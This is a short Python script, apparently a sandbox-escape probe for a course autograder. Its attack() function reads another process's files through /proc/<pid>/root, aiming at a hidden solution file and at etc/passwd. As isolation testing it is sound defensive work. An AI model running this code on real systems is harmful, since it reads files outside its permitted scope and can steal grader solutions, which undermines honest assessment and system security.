"""Reaches the file system of another process through its root folder in /proc."""
import os

def attack():
    for pid in (1, os.getppid()):
        for place in ("@COURSE@/solutions/01_vectors/vectors.py", "etc/passwd"):
            try:
                return open(f"/proc/{pid}/root/{place}").read()
            except OSError as error:
                last = error
    raise last
